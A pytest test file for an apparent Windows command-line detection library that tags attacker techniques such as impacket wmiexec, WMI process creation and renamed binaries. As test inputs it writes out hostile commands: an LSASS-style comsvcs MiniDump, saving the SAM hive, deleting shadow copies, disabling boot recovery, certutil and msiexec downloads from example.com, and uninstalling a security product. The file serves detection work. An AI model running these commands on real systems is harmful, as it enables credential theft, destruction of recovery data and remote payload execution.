import base64
import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from magistrate.activity.command_line import command_features, script_features
from magistrate.activity.command_shapes import patterns, tools
from magistrate.activity.features import Features, fact_names, merge

CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
WMIC = r"C:\Windows\System32\wbem\WMIC.exe"


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("redirect", "kind", "label"),
    [
        (r"1> \\127.0.0.1\ADMIN$\__1700000000.123456 2>&1", "wmiexec", "impacket-wmiexec"),
        (r"1> \\127.0.0.1\C$\__1700000000.12 2>&1", "wmiexec", "impacket-wmiexec"),
        (r"1> \\127.0.0.1\C$\AbCdEfGhIj 2>&1", "smbmap", "smbmap-wmiexec"),
        (r"1> \Windows\Temp\AbCdEf 2>&1", "netexec-smb", "netexec-wmiexec"),
        (
            r"> \\srv1\admin$\temp\psscript_output_0f8fad5b-d9cb-469f-a165-70867728950e.txt",
            "discovery-tool",
            "discovery-tool-output",
        ),
    ],
)
def test_the_output_file_tells_the_tool(redirect, kind, label):
    found = command_features(CMD, "Cmd.Exe", f"cmd.exe /Q /c whoami {redirect}")

    assert found.fact("command.output_kind") == kind
    assert label in found.methods
    assert not found.is_wmi_client


@pytest.mark.parametrize(
    "redirect", [r"> C:\logs\out.txt", r"1> \\127.0.0.1\ADMIN$\__17.1 2>&1", r"> \\srv1\share\report.csv"]
)
def test_an_ordinary_output_file_tells_no_tool(redirect):
    assert command_features(CMD, None, f"cmd.exe /c dir {redirect}").fact("command.output_kind") is None


def test_smbexec_output_is_told_from_wmiexec():
    found = command_features(
        CMD, None, r"cmd.exe /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\x.bat"
    )

    assert "impacket-wmiexec" not in found.methods


def test_the_epoch_in_the_name_is_the_operators_clock():
    found = command_features(CMD, None, r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1700000000.1 2>&1")

    assert found.fact("command.output_epoch") == "1700000000"
    assert found.fact("command.output_opened") == "2023-11-14T22:13:20Z"
    assert found.fact("command.opener") == "yes"


def test_a_shell_around_wmic_is_a_client_that_names_its_wrapper():
    found = command_features(CMD, "Cmd.Exe", f'"{CMD}" /c "wmic.exe shadowcopy delete"')

    assert found.is_wmi_client
    assert found.fact("client.wrapper") == "cmd"
    assert found.fact("command.recovery_inhibition") == "wmic shadowcopy delete"


@pytest.mark.parametrize(
    "command", ["cmd /c echo wmic process call create", 'cmd /c findstr "wmic" a.txt', "cmd /c type wmic.log"]
)
def test_a_shell_that_only_names_wmic_is_no_client(command):
    assert not command_features(CMD, "Cmd.Exe", command).is_wmi_client


def test_carets_do_not_hide_a_client():
    assert command_features(CMD, None, "cmd /c w^m^ic process call create calc.exe").is_wmi_client


def test_a_renamed_client_says_so():
    found = command_features(r"C:\Temp\upd.exe", "wmic.exe", "upd.exe process call create calc.exe")

    assert found.fact("client.renamed") == "upd.exe"
    assert "wmic-process-create" in found.methods


@pytest.mark.parametrize("switch", ["-e", "-enc", "-EncodedCommand", "-ec", "/enc", "-eNcOd"])
def test_encoded_commands_are_opened_in_any_spelling(switch):
    found = command_features(
        POWERSHELL, None, f"powershell -nop {switch} {encoded('gwmi Win32_BIOS -cn srv1')}"
    )

    assert found.fact("command.encoded") == "yes"
    assert found.targets == ("srv1",)


def test_execution_policy_is_not_taken_for_an_encoded_command():
    found = command_features(POWERSHELL, None, "powershell -ex bypass -c Get-Date")

    assert found.fact("command.encoded") is None


@pytest.mark.parametrize(
    ("command", "fact", "value"),
    [
        (
            r"rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\a.bin full",
            "command.credential_dump",
            "comsvcs MiniDump",
        ),
        (r"reg save HKLM\SAM C:\a.hive", "command.credential_dump", "registry hive save"),
        ("vssadmin delete shadows /all /quiet", "command.recovery_inhibition", "vssadmin delete shadows"),
        ("bcdedit /set {default} recoveryenabled No", "command.recovery_inhibition", "bcdedit recovery off"),
        (r"cmd /c net user user08 Pw1 /add", "command.creates", "user"),
        ("cmd /c whoami & ipconfig /all & net group x /domain", "command.discovery", "whoami, ipconfig, net"),
        ("certutil -urlcache -f https://example.com/a a.exe", "command.lolbin", "certutil"),
        (r"cmd /c C:\Users\Public\a.exe", "command.user_path", r"users\public"),
        (r"msiexec /q /i https://example.com/a.msi", "command.lolbin", "msiexec"),
    ],
)
def test_a_shape_is_told_by_its_fact(command, fact, value):
    assert command_features(None, None, command).fact(fact) == value


@pytest.mark.parametrize(
    ("command", "fact"),
    [
        (r"msiexec /i C:\inst\a.msi REBOOT=ReallySuppress", "command.lolbin"),
        ("vssadmin list shadows", "command.recovery_inhibition"),
        (r"reg query HKLM\SAM", "command.credential_dump"),
        ("net user user08 Pw1 /add", "command.discovery"),
        (r"reg save HKLM\SYSTEM\CurrentControlSet\Services\x a.hiv", "command.credential_dump"),
    ],
)
def test_a_near_miss_has_no_fact(command, fact):
    assert command_features(None, None, command).fact(fact) is None


def test_what_a_client_creates_speaks_for_the_client():
    found = command_features(
        WMIC, "wmic.exe", 'wmic /node:srv1 process call create "vssadmin delete shadows /all"'
    )

    assert found.fact("command.recovery_inhibition") == "vssadmin delete shadows"
    assert found.fact("created.program") == "vssadmin"


def test_a_security_product_makes_an_uninstall_tampering():
    found = command_features(
        WMIC, None, "wmic product where \"name like '%Sophos%'\" call uninstall /nointeractive"
    )

    assert found.fact("command.defence_tamper") == "uninstall of sophos"


def test_a_harmless_product_makes_no_tampering():
    found = command_features(WMIC, None, "wmic product where \"name like 'Viewer%'\" call uninstall")

    assert found.fact("command.defence_tamper") is None


@pytest.mark.parametrize(
    ("image", "command", "label"),
    [
        (r"C:\Windows\System32\wbem\mofcomp.exe", r"mofcomp C:\Users\a\x.mof", "mofcomp"),
        (r"C:\Windows\System32\wbem\wbemtest.exe", "wbemtest", "wbemtest"),
        (r"C:\Temp\wbemtool.exe", "wbemtool", "wbemtool"),
        (
            r"C:\Windows\System32\cscript.exe",
            'cscript //nologo C:\\Windows\\System32\\winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine="calc"} -r:srv1',
            "winrm-invoke-wmi",
        ),
        (
            r"C:\Windows\System32\mshta.exe",
            'mshta vbscript:Close(GetObject("winmgmts:").Get("Win32_Process").Create("calc.exe"))',
            "wmi-com-script",
        ),
    ],
)
def test_other_clients_are_known(image, command, label):
    found = command_features(image, None, command)

    assert found.is_wmi_client
    assert label in found.methods


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=string.printable + "“\u2013", max_size=300))
def test_any_text_gives_only_documented_facts(text):
    known = set(fact_names())

    for found in (
        command_features(WMIC, None, "wmic " + text),
        command_features(POWERSHELL, None, "powershell " + text),
        command_features(CMD, None, "cmd /c " + text),
        script_features("Get-WmiObject Win32_Process\n" + text),
    ):
        assert {name for name, _ in found.facts} <= known


def test_facts_are_sorted_and_hold_one_value_a_name():
    found = command_features(
        CMD, None, r"cmd.exe /Q /c whoami & wmic os get caption 1> \\127.0.0.1\ADMIN$\__1700000000.1 2>&1"
    )
    names = [name for name, _ in found.facts]

    assert names == sorted(set(names))


def test_the_first_part_wins_in_a_merge():
    one = Features(facts=(("command.length", "3"),))
    other = Features(facts=(("command.length", "9"),))

    assert merge(one, other).fact("command.length") == "3"


def test_every_pattern_sets_a_documented_fact():
    assert {row.fact for row in patterns()} <= set(fact_names())


@pytest.mark.parametrize("kind", ["lolbin", "discovery", "recon"])
def test_each_kind_of_tool_has_rows(kind):
    assert tools(kind)


@pytest.mark.parametrize(
    ("original", "command", "fact"),
    [
        ("RUNDLL32.EXE", r"svc.exe C:\a.dll,Start", "command.lolbin"),
        ("VSSADMIN.EXE", "svc.exe delete shadows /all", "command.recovery_inhibition"),
        ("Cmd.Exe", "svc.exe /c whoami", "command.discovery"),
    ],
)
def test_a_renamed_tool_is_known_by_its_version_resource(original, command, fact):
    assert command_features(r"C:\Temp\svc.exe", original, command).fact(fact) is not None
